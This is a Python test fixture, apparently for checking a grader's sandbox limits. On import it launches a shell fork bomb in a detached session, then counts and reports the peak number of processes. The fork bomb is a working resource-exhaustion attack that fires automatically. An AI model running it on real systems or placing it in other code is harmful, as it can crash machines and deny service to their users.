"""A fork bomb at import: shell processes forking in a loop, in a session of their own.

It runs 10 s before the step goes on (the starter then fails every check), long enough to
meet the process limit (RLIMIT_NPROC) or the memory watch; then the grader must end it.

target: linear
base: starter
where: import
rules: off
score: 0
"""

import os
import subprocess
import time

from common import report

subprocess.Popen(
    ["/bin/sh", "-c", "b() { b | b & }; b"],
    start_new_session=True,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)


def my_processes() -> int:
    n = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            n += os.stat(f"/proc/{pid}").st_uid == os.getuid()
        except OSError:
            pass
    return n


peak = 0
for _ in range(40):
    time.sleep(0.25)
    peak = max(peak, my_processes())
report("fork_bomb", peak_processes=peak)
